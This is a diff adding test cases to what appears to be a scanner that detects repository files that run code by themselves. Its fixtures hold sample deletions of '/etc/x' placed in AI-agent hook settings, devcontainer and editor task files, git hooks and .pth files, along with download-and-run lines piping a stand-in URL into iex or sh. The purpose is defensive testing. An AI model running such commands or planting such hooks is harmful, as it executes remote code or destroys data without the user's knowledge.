@@ -203,12 +203,38 @@ def test_bytecode_that_cannot_be_parsed_is_opaque(reach: Reach) -> None:
         ("a.pth", "import os; os.remove('/etc/x')", ("delete", "/etc/x")),
         ("Makefile", "all:\n\trm /etc/x\n", ("delete", "/etc/x")),
         (".envrc", "rm /etc/x", ("delete", "/etc/x")),
+        ("sitecustomize.py", "import os\nos.remove('/etc/x')", ("exec", "sitecustomize.py")),
+        ("setup.py", "x = 1", ("exec", "setup.py")),
+        (".claude-plugin/plugin.json", '{"hooks": {"Stop": [{"hooks": [{"command": "rm /etc/x"}]}]}}',
+         ("delete", "/etc/x")),
+        (".claude/settings.json", '{"hooks": {"Stop": [{"hooks": [{"command": "rm /etc/x"}]}]}}',
+         ("delete", "/etc/x")),
+        (".devcontainer/devcontainer.json", '{"postCreateCommand": "rm /etc/x"}', ("delete", "/etc/x")),
+        (".vscode/tasks.json", '{"tasks": [{"command": "rm /etc/x"}]}', ("delete", "/etc/x")),
+        (".husky/pre-commit", "rm /etc/x", ("exec", "pre-commit")),
     ],
 )  # fmt: skip
 def test_files_that_run_by_themselves(
     reach: Reach, path: str, content: str, expected: tuple[str, str]
 ) -> None:
     assert expected in shown(reach({path: content}))
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("contest.py", "x = 1"),
+        ("a.pth", "../lib\nimportant/path\n"),
+        (".mcp.json", '{"mcpServers": {"a": {"url": "https://a.example.com/mcp"}}}'),
+        (".claude/settings.json", '{"permissions": {"allow": ["Bash(git log *)"]}}'),
+        (".devcontainer/devcontainer.json", '{"image": "debian"}'),
+        ("package.json", '{"scripts": {"build": "rm /etc/x"}}'),
+        ("Makefile", "NAME = x\n# rm /etc/x\nall: a.o\n"),
+        ("docs/hooks.txt", "rm /etc/x"),
+    ],
+)
+def test_files_that_only_look_like_ones_that_run_by_themselves(reach: Reach, path: str, content: str) -> None:
+    assert not {kind for kind, _ in shown(reach({path: content}))} & {"exec", "delete"}
 
 
 def test_a_test_script_in_package_json_does_not_run_by_itself(reach: Reach) -> None:
@@ -220,6 +246,11 @@ def test_a_test_script_in_package_json_does_not_run_by_itself(reach: Reach) -> N
     [
         ("a.rb", "puts 1", "language:ruby"),
         ("a.ps1", "Write-Host 1", "language:powershell"),
+        ("a.pl", "print 1;", "language:perl"),
+        ("a.bat", "echo 1\r\n", "language:batch"),
+        ("a.psm1", "Write-Host 1", "language:powershell"),
+        ("tool", "#!/usr/bin/env ruby\nputs 1", "language:ruby"),
+        ("tool2", "#!/usr/bin/perl -w\r\nprint 1;", "language:perl"),
         ("tool", b"\x7fELF\x02", "binary:native"),
         ("m.pkl", b"\x80\x04", "binary:pickle"),
     ],
@@ -235,6 +266,34 @@ def test_powershell_download_and_run_is_remote_code(reach: Reach) -> None:
     assert ("remote_code", "https://a.example.net/i.ps1") in shown(found)
     near = reach({"j.ps1": "iwr -useb https://a.example.net/data.json -OutFile d.json\n"})
     assert not only(near, "remote_code")
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("i.ps1", "iwr https://a.example.net/i.ps1 | iex\r\nWrite-Host done\r\n".encode("utf-16")),
+        ("i.rb", b"require 'open-uri'\r\neval(URI.open('https://a.example.net/i.ps1').read) # open-uri\r\n"),
+        ("i.pl", b"use LWP::Simple;\nsystem(`curl -s https://a.example.net/i.ps1 | sh`);\n"),
+    ],
+)
+def test_download_and_run_in_other_languages_and_with_windows_line_ends(
+    reach: Reach, path: str, content: bytes
+) -> None:
+    assert ("remote_code", "https://a.example.net/i.ps1") in shown(reach({path: content}))
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "kind"),
+    [
+        ("a.py", "import os\r\nif os.name == 'nt':\r\n    os.remove('/etc/x')\r\n", "delete"),
+        ("a.py", "import os\ros.remove('/etc/x')\r", "delete"),
+        ("a.sh", "#!/bin/sh\r\nrm /etc/x\r\n", "delete"),
+        ("a.js", "const fs = require('fs')\r\nfs.unlinkSync('/etc/x')\r\n", "delete"),
+    ],
+)
+def test_windows_line_ends_hide_nothing(reach: Reach, path: str, content: str, kind: str) -> None:
+    (action,) = only(reach({path: content}), kind)
+    assert action.resource == "/etc/x"
 
 
 @pytest.mark.parametrize(
